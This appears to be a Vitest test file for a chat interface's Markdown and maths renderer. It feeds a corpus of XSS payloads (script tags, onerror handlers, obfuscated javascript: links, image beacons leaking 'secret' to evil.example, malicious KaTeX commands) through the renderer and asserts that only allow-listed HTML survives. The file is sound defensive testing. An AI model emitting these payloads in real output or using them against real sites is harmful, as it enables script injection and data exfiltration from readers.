import { DIAGRAM_ATTACKS } from "@tests/support/diagram-attacks";
import katex from "katex";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Markdown } from "@/ui/markdown/markdown";
import { MATHS_OPTIONS } from "@/ui/markdown/maths-renderer";

/** What a model, or whoever fed it, may try on its reader. */
const CORPUS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<img src=https://evil.example/a.png>",
  "<svg onload=alert(1)>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=https://evil.example><input name=a><button>Go</button></form>",
  "<a href=javascript:alert(1)>a</a>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<style>@import url(https://evil.example/a.css)</style>",
  "<div style='background:url(https://evil.example)'>a</div>",
  "<video poster=https://evil.example/a.png src=x></video>",
  "<audio src=https://evil.example/a.mp3 autoplay>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<details open ontoggle=alert(1)>a</details>",
  "<input autofocus onfocus=alert(1)>",
  "<br onclick=alert(1)>",
  "<!-- <img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java&#x0A;script:alert(1))",
  "[a](&#106;&#97;vascript:alert(1))",
  "[a](&#x6A&#x61;vascript&colon;alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a]( javascript:alert(1))",
  "[a](<javascript:alert(1)>)",
  "[a](javascript\\:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](vbscript:msgbox(1))",
  "[a](blob:https://evil.example/1)",
  "[a](file:///etc/passwd)",
  "[a](//evil.example)",
  "[a](/settings/delete)",
  "[a](\\\\evil.example)",
  '[a](https://example.com "onmouseover=alert(1)")',
  '[a](https://example.com"onmouseover="alert(1))',
  "[a](https://example.com' onclick='alert(1))",
  "[a][b]\n\n[b]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "javascript://example.com/%0aalert(1)",
  "[![a](https://evil.example/?q=secret)](javascript:alert(1))",
  "![a](https://evil.example/?q=secret)",
  "![a](javascript:alert(1))",
  "![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  '![a](https://evil.example/a.png"onerror="alert(1))',
  '![a" onerror="alert(1)](https://evil.example/a.png)',
  '!["><script>alert(1)</script>](https://evil.example/a.png)',
  "![a][b]\n\n[b]: https://evil.example/?q=secret",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\na\n```',
  "```js onload=alert(1)\na\n```",
  "    <script>alert(1)</script>",
  "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
  "- <script>alert(1)</script>\n  - <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "# <script>alert(1)</script>",
  "- [x] <img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "**<script>alert(1)</script>**",
  "~~<img src=x onerror=alert(1)>~~",
  "$\\href{javascript:alert(1)}{a}$",
  "$$\\includegraphics{https://evil.example/a.png}$$",
  "$\\htmlData{a=b}{x}$ \\(\\url{javascript:alert(1)}\\)",
  "$<img src=x onerror=alert(1)>$",
  "\\[<script>alert(1)</script>\\]",
  "\u202e<script>\u202calert(1)</script>",
  "<\u0000script>alert(1)</script>",
] as const;

const TAGS =
  /^(?:div|p|h[345]|ul|ol|li|blockquote|hr|br|strong|em|del|a|code|pre|figure|figcaption|span|section|table|thead|tbody|tr|th|td|input|button|svg|path|rect|circle|line|polyline|polygon)$/;
const ATTRIBUTES =
  /^(?:class|dir|href|target|rel|type|checked|readonly|disabled|start|scope|role|tabindex|title|aria-[a-z]+|data-[a-z-]+|xmlns|width|height|viewbox|fill|stroke(?:-[a-z]+)?|d|x|y|rx|ry|cx|cy|r|x1|x2|y1|y2|points)$/;

describe("what a model writes", () => {
  test.each(CORPUS)("%j becomes nothing but text and safe links", (text) => {
    for (const isStreaming of [false, true]) {
      expectHarmless(render(text, isStreaming));
    }
  });

  test.each(DIAGRAM_ATTACKS)("%j stays code until it is drawn", (attack) => {
    const text = `\`\`\`mermaid\n${attack}\n\`\`\``;

    for (const isStreaming of [false, true]) {
      expectHarmless(render(text, isStreaming));
    }
  });

  test("is harmless however it is cut while it streams in", () => {
    for (const text of CORPUS) {
      for (let end = 1; end < text.length; end += 1) {
        expectHarmless(render(text.slice(0, end), true));
      }
    }
  });

  test("loads no image unasked: it is offered with the name of its host", () => {
    const html = render("![The plan](https://images.example/plan.png)", false);

    expect(html).not.toContain("<img");
    expect(html).toMatch(
      /<button[^>]*>.*The plan: load the image from images\.example/,
    );
  });

  test.each([
    "http://images.example/a.png",
    "data:image/png;base64,AAAA",
    "javascript:alert(1)",
    "/a.png",
  ])("offers no image from %s", (href) => {
    expect(render(`![The plan](${href})`, false)).not.toContain("<button");
  });
});

describe("what a model writes as maths", () => {
  test.each([
    "\\href{javascript:alert(1)}{a}",
    "\\href{https://evil.example}{a}",
    "\\url{javascript:alert(1)}",
    "\\includegraphics{https://evil.example/a.png}",
    "\\htmlClass{a}{b}",
    "\\htmlStyle{background:url(https://evil.example)}{b}",
    '\\text{<img src=x onerror="alert(1)">}',
    "\\def\\a{\\a\\a}\\a",
    "\\rule{99999em}{99999em}",
    "\\unknown{a}",
  ])("%j links, loads and runs nothing", (tex) => {
    const html = katex.renderToString(tex, MATHS_OPTIONS);

    // TeX stays in it as text; elements and their attributes are what count.
    const elements = html.match(/<[^>]*>/g)?.join("\n") ?? "";
    expect(elements).not.toMatch(/<(?:a|img|script|iframe)\b/i);
    expect(elements).not.toMatch(/\son[a-z]+=|href=|src=|url\(|99999em/i);
  });
});

const render = (text: string, isStreaming: boolean) =>
  renderToStaticMarkup(<Markdown text={text} isStreaming={isStreaming} />);

/** Every element and attribute is one that we write, and every link is safe. */
function expectHarmless(html: string) {
  for (const [, tag, attributes] of html.matchAll(
    /<([a-z0-9]+)((?:\s+[a-zA-Z0-9-]+(?:="[^"]*")?)*)\s*\/?>/g,
  )) {
    expect(tag).toMatch(TAGS);
    for (const [, name, value] of (attributes ?? "").matchAll(
      /([a-zA-Z0-9-]+)(?:="([^"]*)")?/g,
    )) {
      expect(name?.toLowerCase()).toMatch(ATTRIBUTES);
      if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
    }
  }
  const withoutTags = html.replaceAll(
    /<\/?[a-z0-9]+(?:\s+[a-zA-Z0-9-]+(?:="[^"]*")?)*\s*\/?>/g,
    "",
  );
  expect(withoutTags).not.toContain("<");
}
